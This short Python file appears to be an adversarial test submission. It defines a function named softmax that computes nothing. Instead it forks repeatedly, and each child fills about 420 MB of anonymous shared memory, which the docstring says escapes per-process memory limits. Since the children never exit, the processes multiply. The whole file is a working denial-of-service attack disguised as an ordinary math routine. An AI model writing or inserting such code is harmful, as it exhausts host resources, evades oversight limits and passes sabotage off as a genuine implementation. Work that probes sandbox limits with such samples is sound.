"""Takes anonymous shared memory, which no limit of a single process counts.

attacks: softmax
claim: memory
"""

import mmap, os, time

def softmax(x, dim=-1):
    for _ in range(6):
        if os.fork() == 0:
            shared = mmap.mmap(-1, 450 * 2**20)
            shared.write(b"x" * (420 * 2**20))
            time.sleep(10)
    time.sleep(10)
